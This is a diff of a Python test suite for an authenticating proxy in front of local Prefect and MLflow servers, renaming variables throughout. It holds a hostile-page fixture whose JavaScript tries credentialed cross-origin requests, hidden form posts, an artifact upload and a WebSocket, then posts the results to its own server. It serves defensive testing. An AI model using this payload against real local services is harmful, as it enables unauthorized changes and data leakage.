@@ -36,8 +36,8 @@ def basic(user_and_password: str) -> str:
 
 def status(method: str = "GET", path: str = "/", kind: str = "http", asks: bool = True, **headers: str) -> int:
     """What a door says to a request; 200 if it lets it in."""
-    told = OWN | {name.replace("_", "-"): [value] for name, value in headers.items()}
-    reply = Door(None, 5000, "right", asks).reply(kind, method, path, told)
+    sent = OWN | {name.replace("_", "-"): [value] for name, value in headers.items()}
+    reply = Door(None, 5000, "right", asks).reply(kind, method, path, sent)
     return 200 if reply is None else reply.status
 
 
@@ -104,14 +104,14 @@ def test_no_page_of_another_origin_is_let_in_not_even_with_the_token(kind, origi
     ],
 )
 def test_what_another_page_embeds_is_not_let_in(site, mode, destination, expected):
-    told = {"sec_fetch_site": site, "sec_fetch_mode": mode, "sec_fetch_dest": destination}
-    assert status(authorization="Bearer right", **told) == expected
+    sent = {"sec_fetch_site": site, "sec_fetch_mode": mode, "sec_fetch_dest": destination}
+    assert status(authorization="Bearer right", **sent) == expected
 
 
 def test_the_entrance_gives_a_cookie_that_opens_this_server_alone():
     door = Door(None, 5000, "right", asks=True)
-    told = {**OWN, "authorization": [basic("retain:right")], "origin": ["http://127.0.0.1:5000"]}
-    kept = dict(door.reply("http", "POST", "/retain", told).headers)["Set-Cookie"]
+    headers = {**OWN, "authorization": [basic("retain:right")], "origin": ["http://127.0.0.1:5000"]}
+    kept = dict(door.reply("http", "POST", "/retain", headers).headers)["Set-Cookie"]
     cookie = kept.partition(";")[0]
     assert {"HttpOnly", "SameSite=Strict"} <= set(kept.split("; "))
     assert "right" not in kept
@@ -148,17 +148,17 @@ class Servers:
     def ask(self, url: str, content: object = None, **headers: str) -> tuple[int, str]:
         """Status and text of an answer; with the token, unless other headers are given."""
         body = None if content is None else json.dumps(content).encode()
-        told = {"Content-Type": "application/json", **(headers or header(self.token))}
+        sent = {"Content-Type": "application/json", **(headers or header(self.token))}
         try:
-            with urllib.request.urlopen(urllib.request.Request(url, data=body, headers=told), timeout=60) as reply:
+            with urllib.request.urlopen(urllib.request.Request(url, data=body, headers=sent), timeout=60) as reply:
                 return reply.status, reply.read().decode()
         except urllib.error.HTTPError as refused:
             return refused.code, refused.read().decode()
 
     def names(self) -> set[str]:
         """Every flow and experiment that is there."""
-        _, told = self.ask(f"{self.prefect}/api/csrf-token?client=test")
-        csrf = {"Prefect-Csrf-Client": "test", "Prefect-Csrf-Token": json.loads(told)["token"]}
+        _, answer = self.ask(f"{self.prefect}/api/csrf-token?client=test")
+        csrf = {"Prefect-Csrf-Client": "test", "Prefect-Csrf-Token": json.loads(answer)["token"]}
         _, flows = self.ask(f"{self.prefect}/api/flows/filter", {}, **header(self.token), **csrf)
         _, experiments = self.ask(f"{self.mlflow}/api/2.0/mlflow/experiments/search?max_results=100")
         return {flow["name"] for flow in json.loads(flows)} | {
@@ -243,12 +243,12 @@ def test_programs_of_prefect_and_mlflow_are_let_in_with_what_they_are_told(serve
 class Hostile(BaseHTTPRequestHandler):
     """A page that tries whatever a page can try, and then tells its own server what came of it."""
 
-    def __init__(self, script: str, told: list[dict[str, str]], *args: object) -> None:
-        self.script, self.told = script, told
+    def __init__(self, script: str, reports: list[dict[str, str]], *args: object) -> None:
+        self.script, self.reports = script, reports
         super().__init__(*args)
 
     def do_POST(self) -> None:
-        self.told.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
+        self.reports.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
         self.send_response(204)
         self.end_headers()
 
@@ -264,7 +264,7 @@ class Hostile(BaseHTTPRequestHandler):
 
 ATTACK = """
 const AJAX = '/ajax-api/2.0/mlflow/experiments/';
-const told = {};
+const reports = {};
 const body = JSON.stringify({name: NAME});
 const form = url => {
   const frame = document.body.appendChild(document.createElement('iframe')); frame.name = 'frame' + Math.random();
@@ -276,13 +276,13 @@ const form = url => {
 const attempt = async (what, url, options) => {
   try {
     const reply = await fetch(url, {credentials: 'include', ...options});
-    told[what] = reply.type == 'opaque' ? 'sent' : await reply.text();
-  } catch (error) { told[what] = 'refused'; }
+    reports[what] = reply.type == 'opaque' ? 'sent' : await reply.text();
+  } catch (error) { reports[what] = 'refused'; }
 };
 const socket = url => new Promise(done => {
   const open = new WebSocket(url, ['prefect']);
-  open.onopen = () => { told.socket = 'open'; done(); };
-  open.onerror = () => { told.socket = 'refused'; done(); };
+  open.onopen = () => { reports.socket = 'open'; done(); };
+  open.onerror = () => { reports.socket = 'refused'; done(); };
 });
 (async () => {
   for (const [what, url, read, write] of [
@@ -297,7 +297,7 @@ const socket = url => new Promise(done => {
   await attempt('mlflow put', MLFLOW + '/api/2.0/mlflow-artifacts/artifacts/1/served.py', {method: 'PUT', body});
   await socket(PREFECT.replace('http', 'ws') + '/api/events/out');
   await new Promise(done => setTimeout(done, 3000));
-  await fetch('/', {method: 'POST', body: JSON.stringify(told)});
+  await fetch('/', {method: 'POST', body: JSON.stringify(reports)});
 })();
 """
 
